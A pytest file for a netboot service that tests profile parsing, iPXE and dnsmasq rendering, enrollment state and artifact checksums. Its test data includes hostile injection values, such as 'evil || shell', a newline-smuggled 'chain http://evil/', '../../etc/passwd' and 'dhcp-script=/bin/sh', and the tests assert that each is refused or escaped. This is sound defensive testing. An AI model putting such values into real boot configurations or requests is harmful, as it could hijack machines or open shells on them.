"""Netboot without a cluster: profiles (file:line errors), matching, iPXE/dnsmasq rendering and escaping,
the enrollment domain on a real SQLite state store, the reconciler's decisions, artifact checksums."""

from __future__ import annotations

import hashlib
import http.server
import re
import shutil
import subprocess
import threading
from pathlib import Path

import pytest

from cortex.core.commands import Envelope
from cortex.core.state import StateStore
from cortex.netboot import profiles, render
from cortex.netboot.artifacts import ArtifactError, ArtifactStore, fetch, parse_sums
from cortex.netboot.ephemeral import IdleClock
from cortex.netboot.plugin import reconcile_actions
from cortex.netboot.profiles import Machine, NoMatch, ProfileError
from cortex.netboot.service import Refused, machine_from_query
from tests.support import netlab as netns

EXAMPLE = Path(__file__).resolve().parents[2] / "netboot" / "profiles.example.yaml"
BASE = "http://10.77.0.1:8080"
TOKEN = "cx1.AbCdEf_0123456789-xyzXYZabcdef12"
# What iPXE would run as a command (first word of a line), minus labels and comments.
IPXE_COMMANDS = {"echo", "chain", "sleep", "goto", "kernel", "initrd", "boot", "menu", "item", "choose", "exit",
                 "shell", "reboot", "clear", "#!ipxe"}


def ipxe_commands(script: str) -> list[str]:
    return [line.split()[0] for line in script.splitlines()
            if line.strip() and not line.startswith(("#", ":")) or line.startswith("#!ipxe")]


def script_for(match: profiles.Match, token: str = TOKEN) -> str:
    p = match.profile
    return render.machine_script(render.MachineScript(
        machine=match.machine.key, group=match.group.name, profile=p.name, node_id=match.node_id, base_url=BASE,
        kernel=p.kernel, initrd=p.initrd, args=p.args, join_address="10.77.0.1:7400", token=token,
        expires="2026-01-01 00:00:00 UTC", log_level=p.log_level))


# --- profiles -----------------------------------------------------------------------------------------------

def test_example_profiles_match_by_mac_serial_uuid_and_default_group():
    prof = profiles.load(EXAMPLE)
    assert sorted(prof.profiles) == ["batch", "lab", "worker"]
    by_mac = prof.match(Machine(mac="52:54:00:12:34:01"))
    assert (by_mac.group.name, by_mac.profile.name, by_mac.node_id) == ("rack-1", "lab", "rack-1")
    by_serial = prof.match(Machine(mac="52:54:00:00:00:09", serial="7XJ2K93"))
    assert (by_serial.group.name, by_serial.node_id) == ("dell-batch", "batch-7xj2k93")
    by_uuid = prof.match(Machine(uuid="4C4C4544-0042-3510-8052-B4C04F4D4E31".lower()))
    assert (by_uuid.group.name, by_uuid.node_id) == ("by-uuid", "uuid-4c4c45440042")
    other = prof.match(Machine(mac="52:54:00:12:34:02"))
    assert (other.group.name, other.profile.name, other.node_id) == ("everyone-else", "worker", "pxe-525400123402")
    assert prof.profiles["batch"].idle_poweroff_after == 3600 and prof.profiles["batch"].gc_offline_after == 120
    assert prof.profiles["lab"].gc_offline_after is None


def test_the_most_specific_group_wins():
    prof = profiles.loads("""
profiles: {w: {}}
groups:
  - {name: by-mac, profile: w, selector: {mac: "52:54:00:00:00:01"}, node_name: one}
  - {name: by-mac-and-serial, profile: w, selector: {mac: "52-54-00-00-00-01", serial: S1}, node_name: two}
""")
    assert prof.match(Machine(mac="52:54:00:00:00:01", serial="S1")).node_id == "two"
    assert prof.match(Machine(mac="52:54:00:00:00:01", serial="S2")).node_id == "one"


def test_unknown_machine_without_default_group_is_refused():
    prof = profiles.loads("""
profiles: {w: {}}
groups:
  - {name: known, profile: w, selector: {mac: "52:54:00:00:00:01"}, node_name: known-1}
""", "lab.yaml")
    with pytest.raises(NoMatch, match="no default group in lab.yaml"):
        prof.match(Machine(mac="52:54:00:00:00:02"))


@pytest.mark.parametrize("text, where", [
    ("profiles: {w: {kernel: ../../etc/passwd}}\ngroups: [{name: g, profile: w}]\n", "p.yaml:1: profiles.w.kernel"),
    ("profiles:\n  w:\n    args: [console=ttyS0, 'init=/bin/sh || shell']\ngroups: [{name: g, profile: w}]\n",
     "p.yaml:3: profiles.w.args"),
    ("profiles:\n  w:\n    args: ['a${net0/ip}']\ngroups: [{name: g, profile: w}]\n", "p.yaml:3: profiles.w.args"),
    ("profiles:\n  w:\n    args: ['systemd.set_credential=cortex.role:server']\ngroups: [{name: g, profile: w}]\n",
     "credentials are set by Cortex itself"),
    ("profiles:\n  w:\n    role: server\ngroups: [{name: g, profile: w}]\n", "p.yaml:3: profiles.w.role"),
    ("profiles:\n  w:\n    colour: blue\ngroups: [{name: g, profile: w}]\n", "p.yaml:3: profiles.w.colour: unknown key"),
    ("profiles:\n  w:\n    token_ttl: soon\ngroups: [{name: g, profile: w}]\n", "p.yaml:3: profiles.w.token_ttl"),
    ("profiles: {w: {}}\ngroups:\n  - name: g\n    profile: nope\n", "p.yaml:4: groups[0].profile: no profile 'nope'"),
    ("profiles: {w: {}}\ngroups:\n  - name: g\n    profile: w\n    selector: {mac: zz}\n",
     "p.yaml:5: groups[0].selector.mac"),
    ("profiles: {w: {}}\ngroups:\n  - {name: a, profile: w}\n  - {name: b, profile: w}\n",
     "p.yaml:4: groups: two groups without selector"),
    # hostile host names in a profile: refused at load, never escaped into a script
    ("profiles: {w: {}}\ngroups:\n  - name: g\n    profile: w\n    selector: {mac: '52:54:00:00:00:01'}\n"
     "    node_name: 'evil || shell'\n", "p.yaml:6: groups[0].node_name: 'evil || shell' is not a valid node id"),
    ("profiles: {w: {}}\ngroups:\n  - name: g\n    profile: w\n    selector: {mac: '52:54:00:00:00:01'}\n"
     "    node_name: 'node${hostname}'\n", "p.yaml:6: groups[0].node_name"),
    ("profiles: {w: {}}\ngroups:\n  - name: g\n    profile: w\n    node_name: '{mac}\\nchain http://evil/'\n",
     "p.yaml:5: groups[0].node_name"),
    ("profiles: {w: {}}\ngroups:\n  - name: g\n    profile: w\n    node_name: 'pxe-{password}'\n",
     "unknown placeholder {password}"),
    ("profiles: {w: {}}\ngroups:\n  - name: g\n    profile: w\n    node_name: same-for-all\n",
     "a default group needs a template"),
    ("profiles: {w: {}\ngroups: []\n", "p.yaml:2: not valid YAML"),
])
def test_bad_profiles_are_refused_with_file_and_line(text, where):
    with pytest.raises(ProfileError) as info:
        profiles.loads(text, "p.yaml")
    assert where in str(info.value)


def test_hostile_machine_facts_become_refusals_not_scripts():
    prof = profiles.loads("""
profiles: {w: {}}
groups:
  - {name: by-serial, profile: w, selector: {serial: ABC}, node_name: "s-{serial}"}
  - {name: anyone, profile: w, node_name: "h-{hostname}"}
""")
    # an odd but valid DHCP host name is normalised into a node id
    assert prof.match(Machine(mac="52:54:00:00:00:01", hostname="Lab-Box-7")).node_id == "h-lab-box-7"
    # hostile values the machine sends: dropped by the query parser (never match, never substituted)...
    m = machine_from_query("mac=52-54-00-00-00-01&serial=ABC%24%7Bnet0%2Fip%7D&hostname=x%3B%20reboot")
    assert m.serial == "" and m.hostname == ""
    # ...so a template needing them refuses the machine instead of rendering a script
    with pytest.raises(ValueError, match="needs hostname"):
        prof.match(m)
    with pytest.raises(ValueError, match="not a valid node id"):
        prof.match(Machine(mac="52:54:00:00:00:01", hostname="a" * 70))
    with pytest.raises(Refused, match="no mac, uuid or serial"):
        machine_from_query("hostname=x")
    with pytest.raises(Refused, match="not a MAC"):
        machine_from_query("mac=52-54-00-00-00-01%0Achain")


# --- iPXE scripts -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("machine", [Machine(mac="52:54:00:12:34:01"), Machine(mac="52:54:00:00:00:09", serial="7XJ2K93"),
                                     Machine(mac="52:54:00:12:34:02")], ids=["lab", "batch", "worker"])
def test_machine_script_for_each_profile(machine):
    match = profiles.load(EXAMPLE).match(machine)
    script = script_for(match)
    assert script.startswith("#!ipxe\n")
    assert set(ipxe_commands(script)) <= IPXE_COMMANDS
    kernel = next(line for line in script.splitlines() if line.startswith("kernel "))
    words = kernel.split()
    assert words[1] == f"{BASE}/artifacts/{match.profile.kernel}"
    assert words[2] == f"initrd={match.profile.initrd}"
    assert words[-2:] == ["||", "goto"] or words[-3:] == ["||", "goto", "failed"]
    for arg in match.profile.args:
        assert arg in words
    creds = dict(w.split("=", 1)[1].split(":", 1) for w in words if w.startswith("systemd.set_credential="))
    assert creds == {"cortex.node_name": match.node_id, "cortex.role": "worker",
                     "cortex.join_address": "10.77.0.1:7400", "cortex.join_token": TOKEN,
                     "cortex.log_level": match.profile.log_level}
    assert f"initrd {BASE}/artifacts/{match.profile.initrd} || goto failed" in script
    assert "${" not in script  # nothing for iPXE to expand in a per-machine script


def test_boot_menu_and_netbootxyz_custom_menu():
    boot = render.boot_script(BASE)
    assert f"chain {BASE}/ipxe?mac=${{mac:hexhyp}}&uuid=${{uuid}}&serial=${{serial:uristring}}" in boot
    menu = render.menu_script(BASE)
    assert "choose --default cortex --timeout 5000 target || goto local" in menu
    assert set(ipxe_commands(menu)) <= IPXE_COMMANDS
    custom = render.custom_menu(BASE)
    # netboot.xyz convention: a `:custom` menu that sets custom_choice and returns with exit
    assert ":custom\n" in custom and "choose custom_choice || goto custom_exit" in custom
    assert re.search(r"^item cortex_ephemeral .*Cortex ephemeral node", custom, re.M)
    assert f"chain {BASE}/menu.ipxe" in custom


@pytest.mark.parametrize("hostile", ["evil || shell", "x\nchain http://evil/", "a${net0/ip}", "a;b", "a&&b", "a b"])
def test_values_in_word_positions_are_refused(hostile):
    match = profiles.default_profiles().match(Machine(mac="52:54:00:00:00:01"))
    with pytest.raises(render.IpxeEscapeError):
        script_for(match, token=hostile)
    with pytest.raises(render.IpxeEscapeError):
        render.boot_script(f"http://10.0.0.1:8080/{hostile}")


def test_shown_text_is_escaped():
    script = render.machine_script(render.MachineScript(
        machine="m", group="g\nchain http://evil/ || shell ${x}", profile="p;'\"`", node_id="pxe-1",
        base_url=BASE, kernel="k", initrd="i", args=(), join_address="10.0.0.1:7400", token=TOKEN, expires="x"))
    lines = script.splitlines()
    assert not any(line.startswith("chain http://evil") for line in lines)  # no new line, so no new command
    echo = next(line for line in lines if line.startswith("echo Cortex netboot: pxe-1"))
    assert "group g_chain http://evil/ __ shell __x_, profile p____" in echo  # the text stays text
    assert "${x}" not in script and "||" not in echo
    assert set(ipxe_commands(script)) <= IPXE_COMMANDS
    assert render.text("a$b|c\n#d{e}") == "a_b_c__d_e_"


# --- dnsmasq ------------------------------------------------------------------------------------------------

def dnsmasq_test(tmp_path: Path, text: str) -> subprocess.CompletedProcess:
    conf = tmp_path / "dnsmasq.conf"
    conf.write_text(text)
    return subprocess.run([shutil.which("dnsmasq") or "/usr/sbin/dnsmasq", "--test", f"--conf-file={conf}"],
                          capture_output=True, text=True, timeout=20)


@pytest.mark.skipif(not (shutil.which("dnsmasq") or Path("/usr/sbin/dnsmasq").exists()),
                    reason="dnsmasq not installed (./bootstrap.sh installs dnsmasq-base)")
def test_dnsmasq_configs_are_valid_for_dnsmasq(tmp_path):
    proxy = render.dnsmasq_proxy("192.168.1.0/24", f"{BASE}/boot.ipxe", "/srv/tftp", "eth0")
    assert "dhcp-range=192.168.1.0,proxy,255.255.255.0" in proxy
    # proxy mode: boot files go out as PXE boot services (iPXE 2019 ignores a proxy's plain dhcp-boot)
    assert f'pxe-service=tag:ipxe,x86PC,"Cortex netboot",{BASE}/boot.ipxe' in proxy
    assert 'pxe-service=tag:!ipxe,x86PC,"Cortex netboot (BIOS)",undionly.kpxe' in proxy
    lab = render.dnsmasq_lab("10.77.0.0/24", f"{BASE}/boot.ipxe", "/srv/tftp", "br0",
                             hosts=(render.LabHost("52:54:00:00:00:01", "10.77.0.11", "pxe1"),))
    assert "dhcp-range=10.77.0.128,10.77.0.254,255.255.255.0,1h" in lab
    assert "dhcp-host=52:54:00:00:00:01,10.77.0.11,pxe1" in lab
    assert "dhcp-boot=tag:!ipxe,tag:!efi64,undionly.kpxe" in lab
    for text in (proxy, lab, render.dnsmasq_proxy("10.0.0.0/8", f"{BASE}/boot.ipxe", "/srv/tftp")):
        result = dnsmasq_test(tmp_path, text)
        assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("kwargs", [
    {"interface": "eth0\ndhcp-script=/bin/sh"}, {"network": "10.0.0.0/24\nx"}, {"network": "fd00::/64"},
    {"tftp_root": "/srv/tftp\nenable-ra"}, {"boot_url": "http://x/boot.ipxe\nport=53"},
])
def test_dnsmasq_refuses_values_that_would_add_lines(kwargs):
    args = {"network": "192.168.1.0/24", "boot_url": f"{BASE}/boot.ipxe", "tftp_root": "/srv/tftp", **kwargs}
    with pytest.raises(render.IpxeEscapeError):
        render.dnsmasq_proxy(**args)


def test_dnsmasq_lab_checks_addresses():
    with pytest.raises(render.IpxeEscapeError, match="not in 10.77.0.0/24"):
        render.dnsmasq_lab("10.77.0.0/24", f"{BASE}/boot.ipxe", "/srv/tftp",
                           hosts=(render.LabHost("52:54:00:00:00:01", "10.78.0.11"),))
    with pytest.raises(render.IpxeEscapeError):
        render.dnsmasq_lab("10.77.0.0/24", f"{BASE}/boot.ipxe", "/srv/tftp",
                           hosts=(render.LabHost("52:54:00:00:00:01,10.77.0.12", "10.77.0.11"),))
    with pytest.raises(render.IpxeEscapeError):
        render.dnsmasq_lab("10.77.0.0/24", f"{BASE}/boot.ipxe", "/srv/tftp",
                           hosts=(render.LabHost("52:54:00:00:00:01", "10.77.0.11", "x,set:evil"),))


# --- the enrollment domain on a real state store ------------------------------------------------------------

class Log:
    def __init__(self, path: Path):
        self.store = StateStore(path)
        self.index = 0

    def apply(self, command_type: str, args: dict, ts: float = 1000.0) -> dict:
        self.index += 1
        env = Envelope(type=command_type, args=args, id=f"e{self.index:04d}", ts=ts, term=1, idem=f"i{self.index}")
        return self.store.apply(self.index, env.encode())


def enroll_args(node_id: str = "pxe-1", token_id: str = "aaaaaaaaaaaa") -> dict:
    return {"machine": "52:54:00:00:00:01", "mac": "52:54:00:00:00:01", "uuid": "", "serial": "", "group": "g",
            "profile": "worker", "node_id": node_id, "token_id": token_id, "token_expires_at": 2000.0,
            "ephemeral": True, "gc_offline_after": 60.0, "idle_poweroff_after": 0.0, "served_by": "n1"}


def test_enrollment_lifecycle_in_the_state_machine(tmp_path):
    log = Log(tmp_path / "state.db")
    token_hash = "a" * 64
    log.apply("token.add", {"token_hash": token_hash, "role": "worker", "expires_at": 2000.0, "uses": 1})
    first = log.apply("netboot.enroll", enroll_args(token_id="b" * 12))
    second = log.apply("netboot.enroll", enroll_args(token_id="a" * 12))
    assert second["superseded"] == 1
    # the node has not used the token yet: not joined
    assert log.apply("netboot.joined", {"node_id": "pxe-1"})["changed"] is False
    assert "error" in log.apply("netboot.report", {"node_id": "pxe-1", "boot_id": "b1", "ephemeral": True})
    log.apply("node.register", {"node_id": "pxe-1", "role": "worker", "grpc_address": "10.0.0.9:7400",
                                "raft_address": "", "token_hash": token_hash})
    assert log.apply("netboot.joined", {"node_id": "pxe-1"})["changed"] is True
    reported = log.apply("netboot.report", {"node_id": "pxe-1", "boot_id": "b1", "ephemeral": True})
    assert reported["gc_offline_after"] == 60.0 and reported["enrollment"] == second["enrollment"]
    assert log.apply("netboot.left", {"node_id": "pxe-1", "reason": "collected"})["changed"] is True
    rows = {r["id"]: r for r in log.store.query("netboot.enrollments", {"node_id": "pxe-1"})}
    assert rows[first["enrollment"]]["state"] == "superseded"
    assert rows[second["enrollment"]]["state"] == "collected" and rows[second["enrollment"]]["boot_id"] == "b1"
    machines = log.store.query("netboot.machines", {})
    assert len(machines) == 1 and machines[0]["boots"] == 2 and machines[0]["state"] == "collected"


@pytest.mark.parametrize("args", [
    {**enroll_args(), "node_id": "Evil Name"}, {**enroll_args(), "mac": "52:54:00:00:00:0G"},
    {**enroll_args(), "ephemeral": "yes"}, {**enroll_args(), "extra": 1}, {**enroll_args(), "token_id": "xyz"},
    {**enroll_args(), "group": "g\nx"},
])
def test_enroll_validation(args):
    from cortex.core.commands import CommandError, validate

    with pytest.raises(CommandError):
        validate("netboot.enroll", args)


def test_netboot_commands_that_the_leader_decides_are_internal():
    from cortex.core.commands import is_internal

    assert is_internal("netboot.joined") and is_internal("netboot.left")
    assert not is_internal("netboot.enroll") and not is_internal("netboot.report")


# --- the reconciler's decisions (pure) -----------------------------------------------------------------------

def row(state: str, **kw) -> dict:
    return {"id": "e1", "node_id": "pxe-1", "state": state, "ephemeral": True, "gc_offline_after": 60.0,
            "created_at": 100.0, **kw}


def node(liveness: str = "alive", since: float | None = 100.0, joined_at: float = 150.0) -> dict:
    return {"id": "pxe-1", "liveness": liveness, "liveness_since": since, "joined_at": joined_at}


def test_reconcile_actions():
    assert reconcile_actions([row("issued")], [node()], 200, set()) == \
        [("joined", {"node_id": "pxe-1", "enrollment": "e1"})]
    assert reconcile_actions([row("issued")], [node()], 200, {"e1"}) == []  # asked once already
    assert reconcile_actions([row("issued")], [node(joined_at=50)], 200, set()) == []  # an older member
    assert reconcile_actions([row("reported")], [], 200, set()) == [("left", {"node_id": "pxe-1", "reason": "left"})]
    assert reconcile_actions([row("reported")], [node("offline", since=150)], 200, set()) == []  # 50 s < 60 s
    assert reconcile_actions([row("joined")], [node("offline", since=100)], 200, set()) == [
        ("left", {"node_id": "pxe-1", "reason": "collected"}), ("remove", {"node_id": "pxe-1"})]
    assert reconcile_actions([row("joined", gc_offline_after=None)], [node("offline", since=0)], 999, set()) == []
    assert reconcile_actions([row("joined", ephemeral=False)], [node("offline", since=0)], 999, set()) == []
    assert reconcile_actions([row("collected")], [node("offline")], 999, set()) == [("remove", {"node_id": "pxe-1"})]
    assert reconcile_actions([row("collected")], [node("alive")], 999, set()) == []


def test_idle_clock():
    clock = IdleClock(limit=10, since=0)
    assert not clock.due(9.9) and clock.due(10)
    clock.observe(True, 5)
    assert not clock.due(14) and clock.due(15)
    assert not IdleClock(limit=0, since=0).due(1e9)


# --- artifacts ----------------------------------------------------------------------------------------------

class _Lying(http.server.BaseHTTPRequestHandler):
    """Serves `body` but announces `length` bytes and hangs up: a download cut off in the middle."""

    body = b""
    length = 0

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(self.length))
        self.end_headers()
        self.wfile.write(self.body)
        self.wfile.flush()
        self.close_connection = True

    def log_message(self, *args):
        pass


@pytest.fixture
def lying_server():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Lying)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def test_truncated_or_corrupt_download_is_detected_and_not_kept(tmp_path, lying_server):
    data = bytes(range(256)) * 4096
    digest = hashlib.sha256(data).hexdigest()
    url = f"http://127.0.0.1:{lying_server.server_address[1]}/cortex-netboot.cpio.zst"
    dest = tmp_path / "cortex-netboot.cpio.zst"
    _Lying.body, _Lying.length = data[: len(data) // 2], len(data)  # cut off half way
    with pytest.raises(ArtifactError, match="cut off|truncated"):
        fetch(url, dest, digest)
    assert not dest.exists() and not list(tmp_path.iterdir())
    _Lying.body = _Lying.body + b"\0" * (len(data) - len(_Lying.body))  # right length, wrong bytes
    with pytest.raises(ArtifactError, match="checksum mismatch"):
        fetch(url, dest, digest)
    assert not dest.exists()
    _Lying.body = data
    assert fetch(url, dest, digest).read_bytes() == data


def test_artifact_store_serves_only_named_files_and_tracks_rebuilds(tmp_path):
    (tmp_path / "cortex-netboot_1.vmlinuz").write_bytes(b"kernel-1")
    (tmp_path / "cortex-netboot.vmlinuz").symlink_to("cortex-netboot_1.vmlinuz")
    (tmp_path / "cortex_1.raw").write_bytes(b"disk")
    store = ArtifactStore(tmp_path, {"cortex-netboot.vmlinuz", "cortex-netboot.cpio.zst"})
    assert store.get("cortex-netboot.vmlinuz").sha256 == hashlib.sha256(b"kernel-1").hexdigest()
    for name in ("cortex_1.raw", "../etc/passwd", "cortex-netboot.cpio.zst"):
        with pytest.raises(ArtifactError):
            store.get(name)
    assert store.missing() == ["cortex-netboot.cpio.zst"]
    (tmp_path / "cortex-netboot_2.vmlinuz").write_bytes(b"kernel-2")  # a rebuild moves the symlink
    (tmp_path / "cortex-netboot.vmlinuz").unlink()
    (tmp_path / "cortex-netboot.vmlinuz").symlink_to("cortex-netboot_2.vmlinuz")
    assert store.get("cortex-netboot.vmlinuz").sha256 == hashlib.sha256(b"kernel-2").hexdigest()
    assert parse_sums(store.sums()) == {"cortex-netboot.vmlinuz": hashlib.sha256(b"kernel-2").hexdigest()}


# --- the network dnsmasq serves, found in a network namespace of its own ---------------------------------------

@netns.requires_root
def test_first_network_is_the_first_global_ipv4_in_link_order():
    addresses = [netns.Address("cxb0", "2001:db8::10/64"),
                 netns.Address("cxb0", "169.254.7.7/16", scope=netns.RT_SCOPE_LINK),
                 netns.Address("cxa0", "203.0.113.10/24"),
                 netns.Address("cxa0", "203.0.113.11/24")]
    code = "import json\nfrom cortex.netboot.cli import first_network\nprint(json.dumps(first_network()))"
    with netns.namespace_with([("cxa0", "cxb0")], addresses) as name:
        found = netns.run_in(name, code)
    assert found == ["203.0.113.0/24", "203.0.113.10", "cxa0"]  # the first global IPv4 in link order
    with netns.namespace_with([("cxa0", "cxb0")], addresses[:2]) as name:
        assert netns.run_in(name, code) == ["", "", ""]
